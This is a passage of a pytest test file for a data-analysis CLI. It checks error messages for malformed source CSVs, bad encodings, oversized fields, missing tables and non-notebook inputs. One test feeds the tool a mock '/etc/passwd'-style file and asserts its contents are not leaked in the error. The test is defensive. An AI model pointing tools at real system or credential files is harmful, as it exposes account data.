    blocker = tmp_path / "file"
    blocker.write_text("", encoding="utf-8")
    _one_line(["extract", str(page), "-o", str(blocker / "out.csv")], capsys, "cannot be written")


def test_notebook_paths_that_are_no_notebooks(tmp_path: Path, capsys) -> None:
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    err = _one_line(["notebooks", str(secret)], capsys, "is not a notebook (.ipynb file)")
    assert "root:x" not in err
    fake = tmp_path / "fake.ipynb"
    fake.write_text('{"cells": 1}', encoding="utf-8")
    _one_line(["notebooks", str(fake)], capsys, "fake.ipynb: is not a notebook")
    _one_line(["notebooks", str(tmp_path / "none.ipynb")], capsys, "file not found")


def test_whitespace_author_and_a_commented_text_file(project: Path, tmp_path: Path, capsys) -> None:
    story = tmp_path / "story.txt"
    story.write_text("<!-- saved by hand -->\n" + STORY.read_text(encoding="utf-8"), "utf-8")
    assert main(["add", str(story), "--author", "  \t "]) == 0  # text, not a web page
    added = [s for s in corpus.read_sources(project / "data" / "sources.csv").values()][-1]
    assert added.author == ""
    assert added.title == "Seoul-Moscow trade shrinks again as controls bite"  # not the comment
    assert "controls" in (project / "data" / "raw" / added.file).read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("mutation", "problem"),
    [
        (lambda t: t.replace("\n", ",extra\n", 2).replace(",extra", "", 1), "number of fields"),
        (lambda t: "", "empty file"),
        (lambda t: t.replace(",", ", ", 3), "missing column"),
        (lambda t: t.rstrip("\n") + ',"open\n', "number of fields"),
        (lambda t: t.replace("source_id", "source_id" + "x" * 140_000, 1), "field limit"),
    ],
)
@pytest.mark.parametrize("command", [["cite", "trade", "2019"], ["claims"]])
def test_cite_and_claims_read_sources_through_the_validated_reader(
    project: Path, capsys, mutation, problem: str, command: list[str]
) -> None:
    sources = project / "data" / "sources.csv"
    sources.write_text(mutation(sources.read_text(encoding="utf-8")), encoding="utf-8")
    _one_line(command, capsys, "sources.csv", problem)


def test_cp1251_sources_csv(project: Path, capsys) -> None:
    sources = project / "data" / "sources.csv"
    sources.write_bytes(
        sources.read_text(encoding="utf-8").replace("Gubin", "Губин").encode("cp1251")
    )
    _one_line(["claims"], capsys, "sources.csv: is not valid utf-8", "cp1251")


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (None, "not found"),
        (b"", "is not a"),
        (b"\xff\xfe\x00garbage", "is not a"),
        (b"a,b\n1,2\n", "is not a"),
    ],
)
@pytest.mark.parametrize("command", [["cite", "trade", "2019"], ["claims"]])
def test_missing_or_garbage_processed_tables(
    project: Path, capsys, content: bytes | None, problem: str, command: list[str]
) -> None:
    processed = project / "data" / "processed"
    (processed / "datapackage.json").unlink()  # no build to check against: the table itself
    name = "figures.csv" if command[0] == "cite" else "claims.csv"
    if content is None:
        (processed / name).unlink()
    else:
        (processed / name).write_bytes(content)
    _one_line(command, capsys, name, problem)


@pytest.mark.parametrize("table", ["trade_annual", "reporters", "actors", "lng_annual"])
@pytest.mark.parametrize(
    ("content", "problem"),
    [(None, "reference table not found"), (b"x,y\n1,2\n", "missing column"), (b'a,b\n"x,1\n', "")],
)
def test_missing_or_garbage_reference_tables_for_build(
    project: Path, capsys, table: str, content: bytes | None, problem: str
) -> None:
    path = project / "data" / "reference" / f"{table}.csv"
    if content is None:
        path.unlink()
    else:
        path.write_bytes(content)
    _one_line(["build", "--out", str(project / "out")], capsys, f"{table}.csv", problem)
